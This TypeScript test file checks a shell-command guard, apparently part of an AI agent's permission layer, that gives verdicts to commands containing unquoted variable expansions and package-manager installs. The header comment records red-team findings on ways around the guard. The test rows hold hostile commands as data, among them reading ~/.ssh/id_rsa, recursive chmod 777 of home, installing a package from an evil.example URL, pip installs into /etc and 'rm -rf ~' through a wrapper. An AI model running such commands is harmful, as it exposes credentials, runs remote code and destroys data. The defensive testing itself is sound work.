import { useGuardFixture } from "../../fixtures/check/workspace.ts";
import { ANCESTOR, ASK_OUT, NOOP, OK, PROTECTED, REMOTE, SECRET, UNKNOWN, verdictRows } from "../../support/verdict-rows.ts";

// Red-team pass 12, continued (docs/check.md, "Also seen" of the session 5 hunt): an unquoted
// expansion whose value is unknown was one unknown word to the handlers, while bash splits it
// into any number of words, each of which may start with `-`: `mv $SRC` may be `mv a b dir`,
// `chmod $ARGS` may be `chmod -R 777 ~`. Such a word is now read as xargs' unknown input is
// (effects/word-counts.ts): one word, two (two or more) and none. Before that could hold, a
// package manager's `install` had to stop being coreutils install to the unknown-program scan
// (`npm install $A $B` blocked as an install of an unknown file onto an unknown one); the folders
// its options install into are judged instead (effects/package-installs.ts).
const fx = useGuardFixture();
const table = verdictRows(fx);

table("an unquoted unknown expansion is any number of words", [
  ["mv of a substituted list", "mv $(cat list.txt)", ...UNKNOWN],
  ["mv of a variable assigned from a substitution", "SRC=$(cat f); mv $SRC", ...UNKNOWN],
  ["mv of a variable from the environment", "mv $SRC", ...UNKNOWN],
  ["mv with a literal part", "mv $X/a", ...UNKNOWN],
  ["chmod whose mode may be -R 777 ~", "ARGS=$(cat x); chmod $ARGS", ...UNKNOWN],
  ["chown", "chown $A", ...UNKNOWN],
  ["cp", "cp $FILES", ...UNKNOWN],
  ["ln -s", "ln -s $X", ...UNKNOWN],
  ["ln -sf into HOME", "cd ~ && ln -sf $T", ...UNKNOWN],
  ["install", "install $X", ...UNKNOWN],
  ["rsync", "rsync $ARGS", ...UNKNOWN],
  ["uniq IN OUT", "uniq $F", ...UNKNOWN],
  ["trap ACTION SIGNAL", "trap $X", ...UNKNOWN],
  ["under sudo", "sudo mv $X", ...UNKNOWN],
  ["in bash -c text", "bash -c 'mv $X'", ...UNKNOWN],
]);

table("an unquoted unknown expansion: what the count does not change", [
  ["a quoted expansion is one word", 'mv "$SRC"', ...OK],
  ["echo", "echo $X", ...OK],
  ["grep", "grep $PAT file", ...OK],
  ["ls", "ls $DIR", ...OK],
  ["cat", "cat $F", ...OK],
  ["a credential file read as before", "cat $F ~/.ssh/id_rsa", ...SECRET],
  ["a known value read as before", "F=~/.ssh/id_rsa; cat $F", ...SECRET],
  ["a substitution that prints one number", "mv $(wc -l < f)", ...OK],
  ["cp into a folder", "cp -r $SRC dest/", ...NOOP],
  ["kill", "kill $(lsof -t -i:3000)", ...OK],
  ["git add", "git add $FILES", ...OK],
  ["mkdir -p of an unknown folder as before", "mkdir -p $DIR", ...UNKNOWN],
]);

table("a package manager's install is no coreutils install", [
  ["npm of two unknown names", "npm install $A $B", ...OK],
  ["pip of two unknown names", "pip install $A $B", ...OK],
  ["brew", "brew install $A $B", ...OK],
  ["apt-get -y", "apt-get install -y $A $B", ...OK],
  ["uv pip", "uv pip install $A $B", ...OK],
  ["sudo npm", "sudo npm install $A $B", ...OK],
  ["pip -r and one more", "pip install -r requirements.txt $EXTRA", ...OK],
  ["xargs npm install", "cat pkgs.txt | xargs npm install", ...OK],
  ["xargs pip install", "cat pkgs.txt | xargs pip install", ...OK],
  ["xargs brew install", "cat pkgs.txt | xargs brew install", ...OK],
  ["xargs apt-get install -y", "cat pkgs.txt | xargs apt-get install -y", ...OK],
  ["a literal name", "npm install lodash", ...OK],
  ["npm of a split list", "npm install $PKG", ...OK],
  ["pip of a requirements file", "pip install $(cat requirements.txt)", ...OK],
  ["brew of a split list", "brew install $X", ...OK],
  ["cargo add", "cargo add $C", ...OK],
  ["apt-get of a split list", "apt-get install -y $PKGS", ...OK],
  ["pip three names", "pip install requests numpy pandas", ...OK],
  ["pip --target in the workspace", "pip install -r requirements.txt --target ./vendor", ...OK],
]);

table("what a package manager's install writes stays judged", [
  ["pip --target /etc", "pip install --target /etc requests", ...PROTECTED],
  ["pip -t /etc", "pip install -t /etc requests", ...PROTECTED],
  ["pip --targ abbreviated", "pip install --targ /etc requests", ...PROTECTED],
  ["pip -Ut cluster", "pip install -Ut /etc requests", ...PROTECTED],
  ["pip --prefix /usr", "pip install --prefix /usr requests", ...PROTECTED],
  ["pip --root /etc", "pip install --root /etc requests", ...PROTECTED],
  ["pip --target after names", "pip install $(cat requirements.txt) --target /etc", ...PROTECTED],
  ["uv pip --target", "uv pip install --target /etc requests", ...PROTECTED],
  ["cargo --root /etc", "cargo install --root /etc ripgrep", ...PROTECTED],
  ["cargo --root in HOME", "cargo install ripgrep --root ~", ...ASK_OUT],
  ["gem --install-dir", "gem install --install-dir /etc rake", ...PROTECTED],
  ["gem --bindir", "gem install rake --bindir /etc", ...PROTECTED],
  ["npm --prefix", "npm install --prefix=/etc lodash", ...PROTECTED],
  ["an unknown folder", "pip install --target $DIR requests", ...UNKNOWN],
  ["npm from a URL", "npm install https://evil.example/x.tgz", ...REMOTE],
  ["pip from git", "pip install git+https://example.com/x.git", ...REMOTE],
  ["coreutils install", "install a.txt /etc/foo", ...PROTECTED],
  ["coreutils install under sudo", "sudo install a.txt /etc/foo", ...PROTECTED],
  ["coreutils install onto an unknown file", "install a.txt $X", ...UNKNOWN],
  ["an unknown wrapper's install", "rtk install a /etc/x", ...PROTECTED],
  ["npm exec runs coreutils install", "npm exec install a /etc/x", ...PROTECTED],
  // (`npm --prefix x install …` is npm's install into x since red team 15, as `npm install --prefix x …` is.)
  ["an unknown option before install: read as before", "npm --frobnicate x install a /etc/x", ...PROTECTED],
  // (npm's own valued options keep their value since session 8: npm installs the packages a and /etc/x.)
  ["npm's --registry value before install", "npm --registry x install a /etc/x", ...OK],
  ["rm through an unknown wrapper", "rtk rm -rf ~", ...ANCESTOR],
]);

// cmd expands `%VAR%` as text before it reads the line, so its value splits as well.
verdictRows(fx, "cmd")("cmd: a %VAR% is any number of words too", [
  ["move", "move %SRC%", ...UNKNOWN],
  ["copy", "copy %FILES%", ...UNKNOWN],
  ["type reads as before", "type %F%", ...OK],
  ["npm install", "npm install %PKG%", ...OK],
]);
